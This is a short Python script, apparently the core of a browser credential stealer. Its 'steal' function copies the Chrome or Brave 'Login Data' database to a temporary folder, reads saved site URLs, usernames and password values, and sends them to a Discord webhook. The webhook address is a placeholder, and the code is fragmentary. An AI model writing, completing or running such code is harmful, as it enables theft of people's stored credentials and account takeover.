import os, sqlite3, json, base64
from urllib.request import Request, urlopen
from shutil import copy2
hook = "https://discord.com/api/webhooks/000000000000/AAAAAAAA"
local = os.getenv('LOCALAPPDATA')
paths = [[f"{local}/Google/Chrome/User Data", "chrome.exe", "/Default/Login Data"], [f"{local}/BraveSoftware/Brave-Browser/User Data", "brave.exe", "/Default"]]
def steal(path):
    copy2(path, os.getenv('TEMP') + '/wp.db')
    rows = sqlite3.connect(os.getenv('TEMP') + '/wp.db').execute('SELECT origin_url, username_value, password_value FROM logins').fetchall()
    urlopen(Request(hook, data=json.dumps(rows).encode(), headers={'Content-Type': 'application/json'}))
